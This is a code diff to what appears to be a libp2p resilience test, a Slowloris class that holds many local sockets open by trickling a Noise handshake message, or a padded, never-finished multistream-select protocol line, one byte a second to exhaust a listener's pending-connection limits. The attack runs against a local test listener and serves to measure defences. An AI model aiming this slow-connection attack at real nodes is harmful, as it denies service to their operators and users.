@@ -8,8 +8,9 @@
  * the legitimate dialers on 127.0.0.1. Each socket negotiates `/noise` with
  * multistream-select and then sends Noise message 1 (a stock one, `e` alone:
  * 34 bytes framed) one byte a second, and reconnects when dropped. With stage
- * `negotiation` it sends the multistream-select header and then trickles the
- * `/noise` line, so the encrypter is never reached.
+ * `negotiation` it sends the multistream-select header and then trickles a
+ * 64-byte protocol line, so the connection stalls in multistream-select and
+ * the encrypter is never reached.
  *
  * The listener is built with libp2p's DEFAULT connection manager unless
  * settings are given: the defaults (10 pending inbound connections, 5 new
@@ -90,6 +91,8 @@ export async function giveConfigs (dialer: Libp2p, listener: Listener): Promise<
 export type AttackStage = 'message1' | 'negotiation'
 
 const MSS_HEADER = mssLine('/multistream/1.0.0')
+/** 65 bytes: more than a minute at a byte a second, past any upgrade timeout; were it ever complete, the listener would answer `na` */
+const STALLED_LINE = mssLine(`/${'x'.repeat(62)}`)
 
 export interface SlowlorisInit {
   port: number
@@ -97,7 +100,7 @@ export interface SlowlorisInit {
   sockets: number
   /** Local addresses the sockets are bound to, in turn (default `127.0.0.2`) */
   sources?: string[]
-  /** What is trickled: Noise message 1 after negotiating `/noise` (default), or the `/noise` line after the multistream-select header */
+  /** What is trickled: Noise message 1 after negotiating `/noise` (default), or a protocol line after the multistream-select header */
   stage?: AttackStage
   /** Between trickled bytes (default 1000 ms) */
   byteIntervalMs?: number
@@ -191,7 +194,7 @@ export class Slowloris {
     socket.on('error', () => {})
     // the opening is sent at once and answered by the listener in kind; then the rest is trickled
     const [opening, rest] = this.init.stage === 'negotiation'
-      ? [MSS_HEADER, mssLine('/noise')]
+      ? [MSS_HEADER, STALLED_LINE]
       : [NOISE_NEGOTIATION, noiseFrame(freshEphemeral())]
     socket.once('connect', () => {
       record.openedAt = performance.now()
